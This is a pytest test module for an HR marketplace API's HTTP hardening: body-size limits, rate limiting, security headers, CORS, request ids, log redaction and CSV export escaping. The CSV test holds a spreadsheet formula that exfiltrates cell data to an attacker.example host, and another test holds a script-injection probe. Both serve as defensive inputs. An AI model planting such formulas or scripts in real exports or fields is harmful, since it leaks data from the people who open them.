"""Hardening through HTTP: body limits before reading, rate limits and the model queue,
security headers, CORS, request ids in responses and logs, CSV cells neutralised, and
decisions named by a stable principal id."""

from __future__ import annotations

import asyncio
import base64
import csv
import hashlib
import io
import logging
import re
import uuid
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from talentmarket.api.accesslog import RequestIdLogFilter
from talentmarket.api.bodysize import TEXT_ROUTES, text_body_limit
from talentmarket.api.limits import RATE_CLASSES
from talentmarket.app import create_app
from talentmarket.csvsafe import FORMULA_STARTS, neutralise, safe_row
from talentmarket.runtime import Runtime
from tests.api.helpers import PROBLEM, problem
from tests.factories import make_employee, make_opening, make_role, make_skill

MB = 1024 * 1024


@pytest.fixture
def make_client(runtime: Runtime) -> Iterator[Any]:
    """Build clients on apps created with some settings changed."""
    clients: list[TestClient] = []

    def build(**settings: Any) -> TestClient:
        for name, value in settings.items():
            setattr(runtime.settings, name, value)
        c = TestClient(create_app(runtime=runtime), raise_server_exceptions=False)
        clients.append(c.__enter__())
        return c

    yield build
    for c in clients:
        c.__exit__(None, None, None)


@pytest.fixture
def taxonomy(session: Session) -> None:
    """A skill to extract and a role to normalise titles to."""
    make_skill(session, "Python")
    make_skill(session, "SQL")
    make_role(session, "Software developer")
    session.commit()


# -- request bodies ----------------------------------------------------------------------


def _call(app: FastAPI, path: str, headers: list[tuple[bytes, bytes]], receive: Any) -> Any:
    """Send one request straight through the ASGI app (as a server would); return the
    status, headers and body of the response."""
    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "POST",
        "scheme": "http",
        "path": path,
        "raw_path": path.encode(),
        "root_path": "",
        "query_string": b"",
        "headers": [(b"host", b"testserver"), (b"content-type", b"application/json"), *headers],
        "client": ("127.0.0.1", 5000),
        "server": ("testserver", 80),
    }
    sent: list[dict[str, Any]] = []

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    # in a thread of its own: a browser test earlier in the session may hold this thread's
    # event loop (Playwright's sync API), and asyncio.run refuses to nest
    with ThreadPoolExecutor(1) as pool:
        pool.submit(asyncio.run, app(scope, receive, send)).result()
    start = next(m for m in sent if m["type"] == "http.response.start")
    body = b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body")
    return start["status"], dict(start["headers"]), body


def test_oversized_content_length_is_refused_before_any_byte_is_read(runtime: Runtime) -> None:
    app = create_app(runtime=runtime)
    reads = 0

    async def receive() -> dict[str, Any]:
        nonlocal reads
        reads += 1
        raise AssertionError("the body was read")

    length = str(100 * MB).encode()
    status, headers, body = _call(app, "/v1/skills/extract", [(b"content-length", length)], receive)
    assert status == 413
    assert reads == 0
    assert headers[b"content-type"] == PROBLEM.encode()
    assert b"/problems/payload-too-large" in body
    assert headers[b"x-content-type-options"] == b"nosniff"
    assert b"x-request-id" in headers


def test_streamed_body_is_cut_off_as_soon_as_it_passes_the_limit(runtime: Runtime) -> None:
    app = create_app(runtime=runtime)
    limit = text_body_limit(runtime.settings)
    chunk = b"x" * 65536
    total = 100 * MB // len(chunk)
    sent = 0

    async def receive() -> dict[str, Any]:
        nonlocal sent
        sent += 1
        if sent > total:
            raise AssertionError("the whole body was consumed")
        return {"type": "http.request", "body": chunk, "more_body": True}

    status, _, body = _call(app, "/v1/skills/extract", [], receive)  # chunked: no length
    assert status == 413
    assert b"/problems/payload-too-large" in body
    assert sent == limit // len(chunk) + 1  # the chunk that passed the limit was the last read


def test_default_limit_applies_to_other_routes_and_text_routes_fit_their_texts(
    make_client: Any,
) -> None:
    client = make_client(max_body_bytes=10_000, max_text_chars=5_000)
    big = {"name": "x" * 20_000, "email": "a@example.com"}
    problem(client.post("/v1/employees", json=big), 413, "payload-too-large")
    # 5,000 characters of escaped non-ASCII text are 30 KB of JSON: over the default,
    # within what a text route takes, so the service sees it
    text = "\u00e9" * 5_000
    resp = client.post(
        "/v1/roles/normalize",
        content=('{"title": "%s"}' % ("\\u00e9" * 5_000)).encode(),
        headers={"content-type": "application/json"},
    )
    assert resp.status_code != 413, resp.text
    assert len(text) == 5_000
    # one character more than max_text_chars is the service's own 413
    long_text = client.post("/v1/skills/extract", json={"text": "a" * 5_001})
    problem(long_text, 413, "payload-too-large")


def test_every_text_route_and_rate_class_names_a_real_route(client: TestClient) -> None:
    spec = client.get("/openapi.json").json()
    routes = {(m.upper(), path) for path, ops in spec["paths"].items() for m in ops}
    paths = {path for _, path in routes}
    assert set(RATE_CLASSES) <= routes
    assert paths >= TEXT_ROUTES


# -- rate limits and the model queue -----------------------------------------------------


def test_rate_limit_answers_429_with_retry_after_per_caller(
    make_client: Any, taxonomy: None
) -> None:
    client = make_client(
        rate_limits={"titles": "2/minute"}, api_keys={"key-one": "admin", "key-two": "admin"}
    )
    one = {"X-API-Key": "key-one"}
    for _ in range(2):
        assert (
            client.post("/v1/roles/normalize", json={"title": "dev"}, headers=one).status_code
            == 200
        )
    limited = client.post("/v1/roles/normalize", json={"title": "dev"}, headers=one)
    body = problem(limited, 429, "too-many-requests")
    assert 1 <= int(limited.headers["Retry-After"]) <= 60
    assert body["retry_after"] == int(limited.headers["Retry-After"])
    assert limited.headers["RateLimit-Limit"] == "2"
    assert limited.headers["RateLimit-Remaining"] == "0"
    # another caller has its own count; cheap routes are not counted
    other = client.post(
        "/v1/roles/normalize", json={"title": "dev"}, headers={"X-API-Key": "key-two"}
    )
    assert other.status_code == 200
    assert client.get("/v1/skills", headers=one).status_code == 200


def test_anonymous_callers_are_limited_by_address_and_a_class_can_be_turned_off(
    make_client: Any, taxonomy: None
) -> None:
    client = make_client(rate_limits={"titles": "1/hour", "export": ""})
    assert client.post("/v1/roles/normalize", json={"title": "dev"}).status_code == 200
    problem(client.post("/v1/roles/normalize", json={"title": "dev"}), 429, "too-many-requests")
    for _ in range(12):  # over the default 10/minute, which "" turned off
        assert client.get("/v1/analytics/skills").status_code == 200


def test_busy_model_answers_503_with_retry_after(make_client: Any, taxonomy: None) -> None:
    client = make_client(model_concurrency=1, model_queue=0)
    gate = client.app.state.model_gate  # type: ignore[attr-defined]
    with gate.slot():  # another extraction holds the model
        busy = client.post("/v1/skills/extract", json={"text": "Python and SQL"})
    body = problem(busy, 503, "service-unavailable")
    assert int(busy.headers["Retry-After"]) >= 1
    assert "busy" in body["detail"]
    # titles do not queue behind extractions
    with gate.slot():
        assert client.post("/v1/roles/normalize", json={"title": "dev"}).status_code == 200


def test_a_queued_extraction_waits_a_bounded_time(make_client: Any, taxonomy: None) -> None:
    client = make_client(model_concurrency=1, model_queue=1, model_queue_wait_seconds=0.2)
    gate = client.app.state.model_gate  # type: ignore[attr-defined]
    with gate.slot():
        busy = client.post("/v1/skills/extract", json={"text": "Python and SQL"})
    assert "waited 0.2 s" in problem(busy, 503, "service-unavailable")["detail"]
    assert client.post("/v1/skills/extract", json={"text": "Python and SQL"}).status_code == 200


# -- headers -----------------------------------------------------------------------------

SECURITY = {
    "x-content-type-options": "nosniff",
    "referrer-policy": "no-referrer",
    "x-frame-options": "DENY",
}


def _secure(resp: Any) -> None:
    for name, value in SECURITY.items():
        assert resp.headers[name] == value, name
    assert "frame-ancestors 'none'" in resp.headers["content-security-policy"]


def test_security_headers_and_cache_control(client: TestClient, session: Session) -> None:
    employee = make_employee(session)
    session.commit()
    person = client.get(f"/v1/employees/{employee.id}")
    assert person.status_code == 200
    _secure(person)
    assert person.headers["cache-control"] == "no-store"
    assert person.headers["content-security-policy"].startswith("default-src 'none'")
    skills = client.get("/v1/skills")
    _secure(skills)
    assert skills.headers["cache-control"] == "private, max-age=60"
    missing = client.get("/v1/skills/999999")
    assert missing.status_code == 404
    assert missing.headers["cache-control"] == "no-store"
    _secure(client.get("/health"))
    _secure(client.get("/openapi.json"))


def test_an_unexpected_error_still_carries_headers_and_request_id(client: TestClient) -> None:
    app: FastAPI = client.app  # type: ignore[assignment]

    @app.get("/v1/boom")
    def boom() -> None:
        raise RuntimeError("boom")

    resp = client.get("/v1/boom", headers={"X-Request-ID": "trace-500-abcdef"})
    problem(resp, 500, "internal-error")
    _secure(resp)
    assert resp.headers["x-request-id"] == "trace-500-abcdef"
    assert resp.headers["cache-control"] == "no-store"


def test_docs_are_served_from_this_origin_under_a_policy(client: TestClient) -> None:
    for page, asset in (("/docs", "swagger-ui-bundle.js"), ("/redoc", "redoc.standalone.js")):
        resp = client.get(page)
        assert resp.status_code == 200
        html = resp.text
        assert f'src="/docs-assets/{asset}"' in html
        assert not re.search(r"(src|href)=\"https?://", html), "an asset from another origin"
        csp = resp.headers["content-security-policy"]
        assert "script-src 'self'" in csp
        for script in re.findall(r"<script>(.*?)</script>", html, re.DOTALL):
            digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
            assert f"'sha256-{digest}'" in csp
        js = client.get(f"/docs-assets/{asset}")
        assert js.status_code == 200
        assert len(js.content) > 100_000
    assert client.get("/docs-assets/swagger-ui.css").status_code == 200


# -- CORS --------------------------------------------------------------------------------

PREFLIGHT = {"Access-Control-Request-Method": "GET", "Access-Control-Request-Headers": "x-api-key"}


def test_cors_is_closed_by_default(client: TestClient) -> None:
    origin = {"Origin": "https://evil.example"}
    assert "access-control-allow-origin" not in client.get("/v1/skills", headers=origin).headers
    pre = client.options("/v1/skills", headers={**origin, **PREFLIGHT})
    assert "access-control-allow-origin" not in pre.headers


def test_cors_opens_to_configured_origins_only(make_client: Any) -> None:
    client = make_client(cors_origins=["https://hr.example.com"])
    ok = client.options("/v1/skills", headers={"Origin": "https://hr.example.com", **PREFLIGHT})
    assert ok.status_code == 200
    assert ok.headers["access-control-allow-origin"] == "https://hr.example.com"
    got = client.get("/v1/skills", headers={"Origin": "https://hr.example.com"})
    assert got.headers["access-control-allow-origin"] == "https://hr.example.com"
    assert "X-Request-ID" in got.headers["access-control-expose-headers"]
    bad = client.options("/v1/skills", headers={"Origin": "https://evil.example", **PREFLIGHT})
    assert "access-control-allow-origin" not in bad.headers


# -- request ids and logs ----------------------------------------------------------------


def test_request_id_is_generated_or_echoed_when_sane(client: TestClient) -> None:
    made = client.get("/health").headers["x-request-id"]
    assert uuid.UUID(made).version == 4
    assert client.get("/health").headers["x-request-id"] != made
    echoed = client.get("/health", headers={"X-Request-ID": "0af7651916cd43dd8448eb211c80319c"})
    assert echoed.headers["x-request-id"] == "0af7651916cd43dd8448eb211c80319c"
    for bad in ("short", "has space in it", "x" * 200, "<script>alert(1)</script>"):
        replaced = client.get("/health", headers={"X-Request-ID": bad}).headers["x-request-id"]
        assert uuid.UUID(replaced).version == 4


def test_each_request_is_logged_once_without_personal_data(
    make_client: Any, session: Session, caplog: pytest.LogCaptureFixture
) -> None:
    employee = make_employee(session, "Zelda Quintero", email="zelda.q@example.com")
    session.commit()
    client = make_client(api_keys={"secret-admin-key-0001": "admin"})
    caplog.handler.addFilter(RequestIdLogFilter())
    caplog.set_level(logging.INFO)
    resp = client.get(
        f"/v1/employees/{employee.id}",
        headers={"X-API-Key": "secret-admin-key-0001", "X-Request-ID": "req-logged-0001"},
    )
    assert resp.json()["email"] == "zelda.q@example.com"
    lines = [r for r in caplog.records if r.name == "talentmarket.access"]
    assert len(lines) == 1
    line = lines[0]
    assert line.request_id == "req-logged-0001"  # type: ignore[attr-defined]
    assert line.route == "/v1/employees/{employee_id}"  # type: ignore[attr-defined]
    assert (line.http_method, line.status) == ("GET", 200)  # type: ignore[attr-defined]
    assert line.principal_id == "apikey:settings-admin-1"  # type: ignore[attr-defined]
    assert line.duration_ms >= 0  # type: ignore[attr-defined]
    text = caplog.text
    for secret in ("Zelda", "Quintero", "zelda.q", "secret-admin"):
        assert secret not in text


def test_log_filter_puts_the_request_id_on_other_loggers_lines(
    client: TestClient, caplog: pytest.LogCaptureFixture
) -> None:
    app: FastAPI = client.app  # type: ignore[assignment]

    @app.get("/v1/boom")
    def boom() -> None:
        raise RuntimeError("boom")

    caplog.handler.addFilter(RequestIdLogFilter())
    caplog.set_level(logging.INFO)
    resp = client.get("/v1/boom")
    logged = [r for r in caplog.records if r.name == "talentmarket.api.problems"]
    assert logged
    assert logged[0].request_id == resp.headers["x-request-id"]  # type: ignore[attr-defined]
    outside = logging.LogRecord("x", logging.INFO, __file__, 1, "outside", None, None)
    RequestIdLogFilter().filter(outside)
    assert outside.request_id == "-"  # type: ignore[attr-defined]


# -- CSV and decisions -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Sales", "Sales"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralise(cell: str, expected: str) -> None:
    assert neutralise(cell) == expected


def test_safe_row_keeps_numbers_and_neutralises_text() -> None:
    assert safe_row([-3, 0.5, None, True, "-3", "=HYPERLINK(1)"]) == [
        "-3",
        "0.5",
        "",
        "True",
        "'-3",
        "'=HYPERLINK(1)",
    ]


def test_analytics_csv_cells_are_neutralised(client: TestClient, session: Session) -> None:
    skill = make_skill(session, "@SUM(1+1)")
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
    for _ in range(6):
        make_employee(session, department=formula, location="+Lisbon", skills=[(skill, 4)])
    session.commit()
    resp = client.get("/v1/analytics/skills", params={"format": "csv"})
    assert resp.status_code == 200
    rows = list(csv.DictReader(io.StringIO(resp.text)))
    row = next(r for r in rows if r["skill_label"].endswith("@SUM(1+1)"))
    assert row["skill_label"] == "'@SUM(1+1)"
    assert row["group_label"] == "'" + formula
    assert int(row["supply"]) == 6
    for r in rows:
        for value in r.values():
            assert _is_number(value) or not value.startswith(FORMULA_STARTS), value


def _is_number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return True


def test_decisions_name_the_caller_by_a_stable_id_without_the_key(
    make_client: Any, session: Session
) -> None:
    skill = make_skill(session)
    role = make_role(session, "Analyst")
    person = make_employee(session, skills=[(skill, 3)], current_role_id=role.id)
    opening = make_opening(session, status="open", role_id=role.id, requirements=[(skill, 3)])
    session.commit()
    key = "s3cr3t-recruiter-key-abcdef"
    client = make_client(api_keys={"an-admin-key": "admin", key: "recruiter"})
    made = client.post(
        f"/v1/openings/{opening.id}/decisions",
        json={"employee_id": person.id, "decision": "shortlist"},
        headers={"X-API-Key": key},
    )
    assert made.status_code == 201, made.text
    assert made.json()["decided_by"] == "apikey:settings-recruiter-1"
    listed = client.get(
        f"/v1/openings/{opening.id}/decisions", headers={"X-API-Key": "an-admin-key"}
    ).json()
    assert [d["decided_by"] for d in listed["items"]] == ["apikey:settings-recruiter-1"]
    for fragment in (key[:4], key[:6], key[-6:]):
        assert fragment not in made.text + str(listed)


def test_with_keys_configured_every_v1_route_needs_one(make_client: Any, session: Session) -> None:
    # the guard resolves the caller on every /v1 route, including those whose handler
    # never asked (opening reads, employee deletes)
    person = make_employee(session)
    session.commit()
    client = make_client(api_keys={"an-admin-key": "admin"})
    problem(client.get("/v1/openings"), 401, "unauthorized")
    problem(client.delete(f"/v1/employees/{person.id}"), 401, "unauthorized")
    assert client.get(f"/v1/employees/{person.id}").status_code == 401
    assert client.get("/v1/openings", headers={"X-API-Key": "an-admin-key"}).status_code == 200
    assert client.get("/health").status_code == 200


def test_benchmark_servers_turn_off_every_rate_limit_class() -> None:
    from talentmarket.api.limits import DEFAULT_RATE_LIMITS
    from talentmarket.benchmarks.server import RATE_LIMIT_CLASSES

    assert set(RATE_LIMIT_CLASSES) == set(DEFAULT_RATE_LIMITS)
